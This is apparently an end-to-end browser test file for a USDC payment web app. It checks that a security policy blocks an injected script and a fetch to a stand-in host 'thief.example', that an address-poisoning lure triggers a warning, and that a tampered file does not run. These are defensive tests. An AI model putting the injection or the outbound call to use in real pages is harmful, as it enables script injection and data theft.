import { readFile } from 'node:fs/promises'
import { join } from 'node:path'
import { encodeQR } from 'qr'
import { privateKeyToAccount } from 'viem/accounts'
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest'
import { openRoutes } from '../openRoutes.js'
import { type PageStage, setPageStage } from '../pageStage.js'
import { SHOWN_CODE } from '../webStage.js'
import type { Engine, Tab } from './Engine.js'
import { ENGINE, openEngine } from './openEngine.js'
import { paste, press, read, see, type } from './person.js'

describe(`the application in ${ENGINE}`, () => {
  let page: PageStage
  let engine: Engine
  beforeAll(async () => {
    page = await setPageStage()
  })
  afterAll(() => page?.close())
  beforeEach(async () => {
    engine = await openEngine(page.served)
  })
  afterEach(async () => {
    page.served.restore()
    page.stage.devnet.faults.clear()
    await engine.close()
  })

  const open = async (path = '/'): Promise<Tab> => {
    const tab = await engine.openTab()
    await tab.goto(`${page.served.origin}/#${path}`)
    return tab
  }
  const openAsAlice = async (): Promise<Tab> => {
    const tab = await open()
    await press(tab, 'button', 'Start as Alice')
    await see(tab, 'text', /^You have 500/)
    return tab
  }

  test('every screen is drawn under the policy', async () => {
    const tab = await openAsAlice()
    for (const [path, heading] of openRoutes) {
      await tab.run((path) => {
        location.hash = path
      }, path)
      await see(tab, 'heading', heading)
      const loading = () => [...document.querySelectorAll('.skeleton')].filter((one) => one.checkVisibility()).length
      await expect.poll(() => tab.run(loading)).toBe(0)
    }
    expect(engine.complaints).toEqual([])
  })

  test('what the policy forbids does not happen, and is reported', async () => {
    const tab = await open()
    await see(tab, 'heading', 'Pay in USDC')
    expect(engine.complaints).toEqual([])
    const outcome = await tab.run(async () => {
      const script = document.createElement('script')
      let isTyped = false
      try {
        script.textContent = 'globalThis.hasRun = true'
      } catch {
        isTyped = true
      }
      document.body.append(script)
      const answer = await fetch('https://thief.example').then(
        () => 'sent',
        () => 'refused',
      )
      return { answer, hasRun: 'hasRun' in globalThis, isTyped, hasTypes: 'trustedTypes' in globalThis }
    })
    console.log(
      outcome.hasTypes ? 'It has Trusted Types.' : 'It has no Trusted Types: only the rest of the policy was tried.',
    )
    expect(outcome).toEqual({ answer: 'refused', hasRun: false, isTyped: outcome.hasTypes, hasTypes: outcome.hasTypes })
    await expect.poll(() => engine.complaints.some((text) => text.includes('thief.example'))).toBe(true)
  })

  test('without a wallet: is attacked, copies the bait, is stopped, pays Bob, and claims as Bob in a second tab', async () => {
    const tab = await openAsAlice()
    await press(tab, 'button', 'Attack me')
    await see(tab, 'text', /Zoe.*her 5 USDC are gone/)
    await press(tab, 'button', 'Copy the address of row 1')
    await see(tab, 'button', 'Copied')
    await paste(tab, 'Recipient’s address')
    await see(tab, 'dialog', 'Do not pay this address')
    await see(tab, 'text', /of 40 characters differ\. The two ends/)
    expect(await tab.run(() => document.querySelectorAll('dialog[open] mark').length)).toBeGreaterThan(10)
    await press(tab, 'button', 'Go back')
    expect(await read(tab, 'field', 'Recipient’s address')).toBe('')

    await press(tab, 'button', 'Copy Bob’s address')
    await paste(tab, 'Recipient’s address')
    const bob = (await read(tab, 'field', /^Recipient/)) as `0x${string}`
    await type(tab, 'Amount', '25')
    await press(tab, 'button', 'Review the payment')
    await press(tab, 'button', /^Send 25/)
    await see(tab, 'text', SHOWN_CODE)
    await press(tab, 'summary', 'A link with the code in it')
    await press(tab, 'button', 'Copy the link with the code in it')

    const second = await open('/claim')
    await paste(second, 'Claim link')
    await press(second, 'button', 'Open the link')
    await press(second, 'button', 'Claim without gas')
    await see(second, 'heading', '25 USDC claimed')
    // Alice paid Bob 5 before the attack.
    expect(await page.stage.balanceOf(bob)).toBe(30_000_000n)
    await see(tab, 'text', /Claimed/)
    expect(engine.complaints).toEqual([])
  })

  test('a payment that is reloaded before its receipt is found on chain, was sent once, and its code can be saved', async () => {
    const { devnet, publicClient } = page.stage
    const tab = await openAsAlice()
    const alice = privateKeyToAccount(await tab.run(() => sessionStorage.getItem('holdfast:burner') as `0x${string}`))
    const bob = devnet.primary.accounts[1]?.address
    if (bob === undefined) throw new Error('The devnet has no accounts.')
    const made = () => publicClient.getTransactionCount({ address: alice.address })
    await type(tab, 'Recipient’s address', bob)
    await type(tab, 'Amount', '25')
    await press(tab, 'button', 'Review the payment')
    await type(tab, /^Groups 5 and 6/, bob.slice(18, 26))
    // Terms, allowance and payment, each with time to be seen on chain before the page has seen it.
    devnet.faults.set({ rpc: { receiptDelayBlocks: 100 } })
    await press(tab, 'button', /^Send 25/)
    await expect.poll(made, { timeout: 100_000 }).toBe(3)
    devnet.faults.set({ rpc: { rules: [{ kind: 'hang', match: 'eth_getTransactionReceipt', times: null }] } })
    expect(await tab.run(() => location.hash)).toMatch(/^#\/sending\//)
    await tab.reload()
    devnet.faults.clear()
    // The code is shown to the account that sent it alone: the tab still has its key.
    const code = await read(tab, 'text', SHOWN_CODE)
    // From the journal, which holds it encrypted.
    await tab.reload()
    expect(await read(tab, 'text', SHOWN_CODE)).toBe(code)
    expect(await made()).toBe(3)
    expect(engine.complaints).toEqual([])

    const { downloads } = engine
    if (downloads === undefined) return
    await tab.run(() => {
      location.hash = '/settings'
    })
    await press(tab, 'button', 'Save everything to a file')
    await press(tab, 'button', 'I know: save the file')
    // The browser writes it under another name first.
    const saved = () => readFile(join(downloads, 'holdfast-everything.json'), 'utf8').catch(() => '')
    await expect.poll(saved, { timeout: 100_000 }).toContain(code)
    expect(engine.complaints).toEqual([])
  })

  test('keys of hidden spending accounts are found in no announcement, by a worker', async () => {
    const tab = await openAsAlice()
    await tab.run(() => {
      location.hash = '/boxes'
    })
    await press(tab, 'button', 'Unlock hidden spending accounts')
    await see(tab, 'text', 'None was announced to these keys.')
    expect(engine.complaints).toEqual([])
  })

  test('a picture with the code of an address is read', async () => {
    const bob = page.stage.devnet.primary.accounts[1]?.address ?? ''
    const tab = await open('/scan')
    await see(tab, 'field', 'Choose a picture')
    await tab.run(
      (bytes) => {
        const picture = new DataTransfer()
        picture.items.add(new File([new Uint8Array(bytes)], 'code.gif', { type: 'image/gif' }))
        const field = document.querySelector('input[type=file]')
        if (!(field instanceof HTMLInputElement)) throw new Error('There is no field for a picture.')
        field.files = picture.files
        field.dispatchEvent(new Event('change', { bubbles: true }))
      },
      [...encodeQR(bob, 'gif', { scale: 8 })],
    )
    expect(await read(tab, 'field', 'Recipient’s address')).toBe(bob)
    expect(engine.complaints).toEqual([])
  })

  test('a chunk that was changed on the host does not run, and the page says so', async () => {
    const file = new RegExp(page.served.fileOf('src/screens/claim/ClaimScreen.tsx'))
    page.served.tamper(file, (text) => `${text}\nglobalThis.isTampered = true`)
    const tab = await open('/claim')
    await see(tab, 'heading', 'A file of this page was changed or is missing')
    expect(await tab.run(() => Reflect.get(globalThis, 'isTampered') ?? null)).toBeNull()
  })
})
